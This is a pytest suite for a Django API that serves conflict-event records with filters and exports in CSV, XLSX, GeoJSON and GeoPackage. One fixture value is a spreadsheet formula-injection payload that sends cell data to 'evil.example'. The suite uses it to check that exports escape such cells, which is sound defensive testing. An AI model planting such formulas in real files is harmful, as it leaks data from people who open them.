"""Conflict events (the violence layer) over the API: public, read only, filtered, in every export format."""

import csv
import datetime
import io

import geopandas
import pytest
from django.db import connection
from django.test import override_settings
from django.test.utils import CaptureQueriesContext
from openpyxl import load_workbook
from rest_framework import status
from rest_framework.test import APIClient

from aidtrack.incidents.models import Incident
from aidtrack.violence.models import ConflictEvent
from aidtrack.violence.services import conflict_events_save

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
D = datetime.date


def event(event_id, **fields):
    values = {
        "event_id": event_id,
        "event_date": D(2016, 9, 15),
        "event_type": "Battles",
        "sub_event_type": "Armed clash",
        "actor1": "Military Forces of Syria (2000-)",
        "actor2": "Opposition Rebels (Syria)",
        "admin1_name": "Rural Damascus",
        "location": "Madaya",
        "latitude": 33.6901,
        "longitude": 36.0963,
        "fatalities": 0,
        "notes": "",
        "source": "Test source",
    }
    return {**values, **fields}


@pytest.fixture
def events(geography):
    """Two events in Rural Damascus (SY03) and one in Aleppo, outside the test geography."""
    conflict_events_save(
        events=[
            event("SYR1", fatalities=3, notes="Clashes on the edge of Madaya."),
            event(
                "SYR2",
                event_date=D(2016, 9, 16),
                event_type="Explosions/Remote violence",
                sub_event_type="Shelling/artillery/missile attack",
                actor2="",
                location="Bqine",
                latitude=33.7011,
                longitude=36.1063,
                notes=FORMULA,
                source="@source",
            ),
            event(
                "SYR3",
                event_date=D(2016, 9, 19),
                event_type="Explosions/Remote violence",
                sub_event_type="Air/drone strike",
                actor1="Military Forces of Russia (2000-)",
                actor2="Civilians (Syria)",
                admin1_name="Aleppo",
                location="Aleppo - Bustan al-Qasr",
                latitude=36.2,
                longitude=37.15,
                fatalities=12,
                notes="Air strikes on eastern Aleppo.",
            ),
        ]
    )
    return {e.event_id: e for e in ConflictEvent.objects.all()}


def anonymous():
    return APIClient()


def ids(response):
    assert response.status_code == status.HTTP_200_OK, response.content[:300]
    return sorted(row["event_id"] for row in response.json()["results"])


def test_anyone_reads_the_list_and_one_event_without_signing_in(events):
    rows = anonymous().get("/api/v1/conflict-events/").json()["results"]
    assert [row["event_id"] for row in rows] == ["SYR3", "SYR2", "SYR1"]
    row = anonymous().get(f"/api/v1/conflict-events/{events['SYR1'].pk}/").json()
    assert row["event_type"] == "Battles" and row["sub_event_type"] == "Armed clash"
    assert row["actor1"] == "Military Forces of Syria (2000-)" and row["fatalities"] == 3
    assert (row["latitude"], row["longitude"]) == (33.6901, 36.0963)
    assert (row["admin1_pcode"], row["admin2_pcode"], row["admin3_pcode"]) == ("SY03", "SY0307", "SY030703")
    assert row["admin1_name"] == "Rural Damascus" and row["source"] == "Test source"
    assert anonymous().get("/api/v1/conflict-events/999999/").status_code == status.HTTP_404_NOT_FOUND
    assert anonymous().get("/api/v1/conflict-events/not-a-number/").status_code == status.HTTP_404_NOT_FOUND


def test_the_violence_layer_is_read_only_and_stays_out_of_the_incident_lists(events, site_admin):
    client = APIClient()
    client.force_authenticate(site_admin)
    assert client.post("/api/v1/conflict-events/", {}, format="json").status_code == 405
    url = f"/api/v1/conflict-events/{events['SYR1'].pk}/"
    assert client.delete(url).status_code == 405 and client.patch(url, {}, format="json").status_code == 405
    assert anonymous().post("/api/v1/conflict-events/", {}, format="json").status_code == 401
    assert not Incident.objects.exists()
    assert client.get("/api/v1/incidents/").json()["results"] == []


@override_settings(AIDTRACK_API_ANON_RATE="3/minute")
def test_anonymous_readers_are_throttled_like_every_public_list(events):
    """Each request asks for a list not rendered yet: a cached copy costs nothing and is not counted."""
    client = anonymous()
    codes = [client.get(f"/api/v1/conflict-events/?min_fatalities={n}").status_code for n in range(4)]
    assert codes == [200, 200, 200, 429]


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ("date_from=2016-09-16", ["SYR2", "SYR3"]),
        ("date_to=2016-09-16", ["SYR1", "SYR2"]),
        ("date_from=2016-09-16&date_to=2016-09-16", ["SYR2"]),
        ("event_type=Battles", ["SYR1"]),
        ("event_type=explosions/remote violence", ["SYR2", "SYR3"]),
        ("event_type=Battles&event_type=Riots", ["SYR1"]),
        ("sub_event_type=Air/drone strike", ["SYR3"]),
        ("pcode=SY03", ["SYR1", "SYR2"]),
        ("pcode=SY0307", ["SYR1", "SYR2"]),
        ("pcode=sy030703", ["SYR1", "SYR2"]),
        ("pcode=SY", ["SYR1", "SYR2"]),
        ("bbox=36.1,33.6,36.2,33.8", ["SYR2"]),
        ("search=russia", ["SYR3"]),
        ("search=Civilians", ["SYR3"]),
        ("search=bqine", ["SYR2"]),
        ("search=edge of Madaya", ["SYR1"]),
        ("min_fatalities=3", ["SYR1", "SYR3"]),
        ("min_fatalities=0", ["SYR1", "SYR2", "SYR3"]),
        ("min_fatalities=13", []),
    ],
)
def test_filters(events, query, expected):
    assert ids(anonymous().get(f"/api/v1/conflict-events/?{query}")) == expected


def test_updated_since_lists_what_an_import_added_or_changed(events):
    since = ConflictEvent.objects.get(event_id="SYR3").imported_at + datetime.timedelta(microseconds=1)
    query = {"updated_since": since.isoformat()}
    assert ids(anonymous().get("/api/v1/conflict-events/", query)) == []
    counts = conflict_events_save(events=[event("SYR1", fatalities=4, notes="Clashes on the edge of Madaya.")])
    assert (counts.updated, counts.added) == (1, 0)
    assert ids(anonymous().get("/api/v1/conflict-events/", query)) == ["SYR1"]


@pytest.mark.parametrize(
    ("query", "field", "words"),
    [
        ("date_from=2016-02-30", "date_from", "date"),
        ("pcode=SY99", "pcode", "No admin area"),
        ("pcode=C2450", "pcode", "its sub-district is SY030703"),
        ("bbox=37,33,36,34", "bbox", "minimum"),
        ("min_fatalities=-1", "min_fatalities", "greater than or equal to 0"),
        ("min_fatalities=many", "min_fatalities", "number"),
        ("updated_since=yesterday", "updated_since", "date"),
        ("fields=notes,secret", "fields", "Choose among"),
        ("page_size=0", "page_size", "1 to 1000"),
    ],
)
def test_bad_query_parameters_get_a_field_message(events, query, field, words):
    response = anonymous().get(f"/api/v1/conflict-events/?{query}")
    assert response.status_code == status.HTTP_400_BAD_REQUEST
    assert words.lower() in response.json()["errors"][field][0].lower()


def test_an_error_is_json_even_when_csv_was_asked_for(events):
    response = anonymous().get("/api/v1/conflict-events/?format=csv&pcode=C2450")
    assert response.status_code == status.HTTP_400_BAD_REQUEST
    assert response["Content-Type"].startswith("application/json") and response.json()["errors"]["pcode"]


def test_csv_has_acled_hxl_hashtags_under_the_header(events):
    response = anonymous().get("/api/v1/conflict-events/?format=csv")
    assert response["Content-Type"].startswith("text/csv")
    lines = list(csv.reader(io.StringIO(response.content.decode())))
    tags = dict(zip(lines[0], lines[1], strict=True))
    assert {
        "event_date": "#date+occurred",
        "event_type": "#event+type",
        "sub_event_type": "#event+type+sub",
        "actor1": "#group+name+first",
        "actor2": "#group+name+second",
        "admin1_name": "#adm1+name",
        "admin1_pcode": "#adm1+code",
        "location": "#loc+name",
        "latitude": "#geo+lat",
        "longitude": "#geo+lon",
        "fatalities": "#affected+killed",
        "notes": "#description",
        "source": "#meta+source",
    }.items() <= tags.items()
    records = [dict(zip(lines[0], line, strict=True)) for line in lines[2:]]
    assert [r["event_id"] for r in records] == ["SYR3", "SYR2", "SYR1"]  # newest first
    assert records[2]["fatalities"] == "3" and records[2]["admin3_pcode"] == "SY030703"


def test_csv_and_xlsx_cells_that_would_run_as_formulas_are_escaped(events):
    lines = list(csv.reader(io.StringIO(anonymous().get("/api/v1/conflict-events/?format=csv").content.decode())))
    record = next(dict(zip(lines[0], line, strict=True)) for line in lines[2:] if line[1] == "SYR2")
    assert record["notes"] == "'" + FORMULA and record["source"] == "'@source"
    sheet = load_workbook(io.BytesIO(anonymous().get("/api/v1/conflict-events/?format=xlsx").content)).active
    rows = list(sheet.iter_rows(values_only=True))
    assert sheet.title == "conflict_events" and rows[1][rows[0].index("event_type")] == "#event+type"
    cells = [cell for row in rows for cell in row]
    assert "'" + FORMULA in cells and FORMULA not in cells and len(rows) == 2 + 3


def test_geojson_features_carry_the_point_and_fields_keeps_few_keys(events):
    features = anonymous().get("/api/v1/conflict-events/?format=geojson").json()["features"]
    feature = next(f for f in features if f["properties"]["event_id"] == "SYR3")
    assert feature["geometry"] == {"type": "Point", "coordinates": [37.15, 36.2]}
    small = anonymous().get(
        "/api/v1/conflict-events/", {"format": "geojson", "fields": "event_date,fatalities", "date_from": "2016-09-19"}
    )
    (only,) = small.json()["features"]
    assert only["properties"] == {"id": events["SYR3"].pk, "event_date": "2016-09-19", "fatalities": 12}
    assert only["geometry"]["coordinates"] == [37.15, 36.2]


def test_geopackage_holds_points_and_the_csv_columns(events):
    response = anonymous().get("/api/v1/conflict-events/?format=gpkg&pcode=SY03")
    assert response["Content-Type"] == "application/geopackage+sqlite3"
    frame = geopandas.read_file(io.BytesIO(response.content), engine="pyogrio")
    assert sorted(frame["event_id"]) == ["SYR1", "SYR2"] and frame.crs.to_epsg() == 4326
    row = frame[frame["event_id"] == "SYR1"].iloc[0]
    assert (row.geometry.x, row.geometry.y) == pytest.approx((36.0963, 33.6901))
    assert row["event_type"] == "Battles" and row["fatalities"] == 3


def test_pages_follow_the_id_without_repeating_or_skipping(events):
    seen, url = [], "/api/v1/conflict-events/?page_size=2"
    while url:
        page = anonymous().get(url).json()
        seen += [row["event_id"] for row in page["results"]]
        url = page["next"]
    assert seen == ["SYR3", "SYR2", "SYR1"]


def test_a_list_is_cached_revalidates_with_its_etag_and_is_never_stale(events):
    client = anonymous()
    url = "/api/v1/conflict-events/?format=geojson"
    first = client.get(url)
    etag = first["ETag"]
    again = client.get(url, HTTP_IF_NONE_MATCH=etag)
    assert again.status_code == status.HTTP_304_NOT_MODIFIED
    conflict_events_save(events=[event("SYR1", fatalities=5, notes="Clashes on the edge of Madaya.")])
    changed = client.get(url, HTTP_IF_NONE_MATCH=etag)
    assert changed.status_code == status.HTTP_200_OK and changed["ETag"] != etag
    assert 5 in [f["properties"]["fatalities"] for f in changed.json()["features"]]
    ConflictEvent.objects.filter(event_id="SYR3").delete()
    assert len(client.get(url).json()["features"]) == 2


def test_queries_per_list_do_not_grow_with_the_number_of_events(events):
    def count(url):
        from aidtrack.api import cache

        cache.clear()
        with CaptureQueriesContext(connection) as queries:
            assert anonymous().get(url).status_code == 200
        return len(queries)

    urls = ["/api/v1/conflict-events/", "/api/v1/conflict-events/?format=csv", "/api/v1/conflict-events/?pcode=SY03"]
    before = {url: count(url) for url in urls}
    conflict_events_save(events=[event(f"SYR-MORE-{n}", event_date=D(2016, 9, n + 1)) for n in range(8)])
    assert {url: count(url) for url in urls} == before


def test_statistics_count_events_and_fatalities_per_month_and_governorate(events):
    months = anonymous().get("/api/v1/statistics/conflict-events-by-month/").json()
    assert months == [
        {"month": "2016-09-01", "event_type": "Battles", "events": 1, "fatalities": 3},
        {"month": "2016-09-01", "event_type": "Explosions/Remote violence", "events": 2, "fatalities": 12},
    ]
    governorates = anonymous().get("/api/v1/statistics/conflict-events-by-governorate/?date_to=2016-09-16").json()
    assert [(r["admin1_pcode"], r["admin1_name"], r["event_type"], r["events"]) for r in governorates] == [
        ("SY03", "Rural Damascus", "Battles", 1),
        ("SY03", "Rural Damascus", "Explosions/Remote violence", 1),
    ]
    bad = anonymous().get("/api/v1/statistics/conflict-events-by-month/?pcode=C2450")
    assert bad.status_code == status.HTTP_400_BAD_REQUEST and "community" in bad.json()["errors"]["pcode"][0]


def test_the_schema_documents_the_endpoint_and_its_filters(client, db):
    schema = client.get("/api/v1/schema/?format=json").json()
    operation = schema["paths"]["/api/v1/conflict-events/"]["get"]
    names = {parameter["name"] for parameter in operation["parameters"]}
    assert {"date_from", "date_to", "event_type", "sub_event_type", "pcode", "bbox", "search"} <= names
    assert {"min_fatalities", "updated_since", "fields", "format", "cursor"} <= names
    assert "/api/v1/conflict-events/{id}/" in schema["paths"]
    assert "/api/v1/statistics/conflict-events-by-month/" in schema["paths"]
